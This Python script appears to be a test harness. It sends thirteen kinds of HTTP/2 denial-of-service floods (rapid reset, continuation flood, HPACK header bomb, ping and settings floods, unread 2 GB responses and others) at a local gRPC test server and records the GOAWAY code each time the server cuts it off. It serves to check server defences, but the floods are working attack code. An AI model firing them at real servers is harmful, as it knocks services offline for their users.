"""Sends floods of frames to a server, each on connections of its own, and prints how it was sent away:
`NAME CONNECTIONS FRAMES CODE DEBUG`, with the frames that were sent before the GOAWAY on the last connection.

Usage: h2_attacks.py PORT ROOT NAME CONNECTIONS [ATTACK]...
"""
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.settings
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame
from hyperframe.frame import RstStreamFrame, SettingsFrame, WindowUpdateFrame

PORT, ROOT, NAME, CONNECTIONS = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
SERVICE = "/relay.test.Interop/"


class Attacker:
    """One connection: h2 keeps its state and reads; floods are frames of hyperframe's, which h2 itself would not send."""

    def __init__(self, window=65535):
        context = ssl.create_default_context(cafile=ROOT)
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection(("127.0.0.1", PORT)), server_hostname=NAME)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.local_settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
        self.h2.initiate_connection()
        if window > 65535:
            self.h2.increment_flow_control_window(window)
        self.socket.sendall(self.h2.data_to_send())
        self.goaway = None
        self.closed = False
        self.received = b""
        self.frames = 0

    def fields(self, method="FullDuplexCall"):
        return [
            (":method", "POST"), (":scheme", "https"), (":path", SERVICE + method), (":authority", NAME),
            ("te", "trailers"), ("content-type", "application/grpc"),
        ]

    def open(self, method="FullDuplexCall", data=b"", end=False):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, self.fields(method), end_stream=end and not data)
        if data:
            self.h2.send_data(stream, data, end_stream=end)
        self.socket.sendall(self.h2.data_to_send())
        return stream

    def block(self):
        return self.h2.encoder.encode(self.fields())

    def read(self, patience=0.0):
        """Reads what is there; notes a GOAWAY or the end. h2 does not know the streams of floods, so it is not asked."""
        self.socket.settimeout(patience or 0.0001)
        try:
            while not self.closed:
                data = self.socket.recv(65536)
                self.closed = not data
                self.received += data
                self.parse()
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.closed = True

    def parse(self):
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received)[:9])
            if len(self.received) < 9 + length:
                return
            frame.parse_body(memoryview(self.received)[9 : 9 + length])
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame
            self.received = self.received[9 + length :]

    def flood(self, make, most, batch=10, reading=True):
        """Sends frames until the server has had enough."""
        self.socket.settimeout(5)
        try:
            while self.frames < most and not self.goaway and not self.closed:
                self.socket.settimeout(5)
                self.socket.sendall(b"".join(frame.serialize() for _ in range(batch) for frame in make()))
                self.frames += batch
                if reading:
                    self.read()
        except OSError:
            pass
        end = time.monotonic() + 3
        while not self.goaway and not self.closed and time.monotonic() < end:
            self.read(0.1)
        return self

    def close(self):
        self.socket.close()


def rapid_reset(attacker):
    streams = iter(range(1, 1 << 30, 2))

    def make():
        stream = next(streams)
        return [
            HeadersFrame(stream, attacker.block(), flags=["END_HEADERS"]), RstStreamFrame(stream, error_code=8)]

    attacker.flood(make, 2000, batch=1)


def made_you_reset(attacker):
    streams = iter(range(1, 1 << 30, 2))
    # Without a path a request is malformed, and its stream is reset by the server.
    attacker.flood(lambda: [HeadersFrame(next(streams), b"\x83\x87", flags=["END_HEADERS"])], 2000, batch=1)


class RawFrame:
    """A frame that hyperframe would not make."""

    def __init__(self, kind, stream, payload, flags=0):
        self.bytes = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def serialize(self):
        return self.bytes


def continuation_flood(attacker):
    attacker.socket.sendall(HeadersFrame(1, attacker.block()).serialize())
    attacker.flood(lambda: [ContinuationFrame(1, b"\x00\x01x\x01y")], 20000)


def ping_flood(attacker):
    attacker.flood(lambda: [PingFrame(0, b"12345678")], 100000, batch=100)


def settings_flood(attacker):
    attacker.flood(lambda: [SettingsFrame(0, settings={4: 65535})], 100000, batch=100)


def priority_flood(attacker):
    stream = attacker.open()
    attacker.flood(lambda: [PriorityFrame(stream, depends_on=0, stream_weight=3)], 100000, batch=100)


def window_update_flood(attacker):
    attacker.flood(lambda: [WindowUpdateFrame(0, window_increment=1)], 100000, batch=100)


def empty_data_flood(attacker):
    stream = attacker.open()
    attacker.flood(lambda: [DataFrame(stream, b"")], 100000, batch=100)


def header_bomb(attacker):
    streams = iter(range(1, 1 << 30, 2))
    encoder = attacker.h2.encoder
    first = encoder.encode(attacker.fields() + [("x-bomb", "v" * 3900)])

    def make():
        stream = next(streams)
        # 3,000 references to one field of the table.
        block = first if stream == 1 else b"\xbe" * 3000
        return [HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])]

    attacker.flood(make, 2000, batch=1)


def large_headers(attacker):
    streams = iter(range(1, 1 << 30, 2))

    def make():
        block = b"\x83\x87\x84\x41\x01h\x00\x01x\x7f\xa1\x45" + b"v" * 8992
        return [HeadersFrame(next(streams), block, flags=["END_HEADERS", "END_STREAM"])]

    attacker.flood(make, 2000, batch=1)


def unread_pings(attacker):
    attacker.flood(lambda: [PingFrame(0, b"12345678")], 100000, batch=100, reading=False)


def unknown_frames(attacker):
    attacker.flood(lambda: [RawFrame(0xBE, 0, b"x" * 100)], 100000, batch=100)


def unread_data(attacker):
    """Not a flood: asks for 2 GB on 20 streams and reads nothing for a while."""
    message = struct.pack(">I", 100) + struct.pack(">I", 1 << 20) * 100
    for _ in range(20):
        attacker.open("StreamingOutputCall", b"\x00" + struct.pack(">I", len(message)) + message, end=True)
    time.sleep(1)


WINDOWS = {"unread_data": (1 << 31) - 1 - 65535}
FLOODS = [
    rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, priority_flood, window_update_flood,
    empty_data_flood, header_bomb, large_headers, unread_pings, unknown_frames, unread_data,
]

for flood in FLOODS:
    if len(sys.argv) > 5 and flood.__name__ not in sys.argv[5:]:
        continue
    kept = []
    for _ in range(CONNECTIONS):
        attacker = Attacker(WINDOWS.get(flood.__name__, 65535))
        flood(attacker)
        kept.append(attacker)
    last = kept[-1]
    code = last.goaway.error_code if last.goaway else ("closed" if last.closed else "open")
    debug = (last.goaway.additional_data or b"").decode() if last.goaway else ""
    print(flood.__name__, CONNECTIONS, last.frames, int(code) if last.goaway else code, debug or "-", flush=True)
    if flood is unread_data:
        # Stay until whoever watches has looked.
        time.sleep(1)
    for attacker in kept:
        attacker.close()
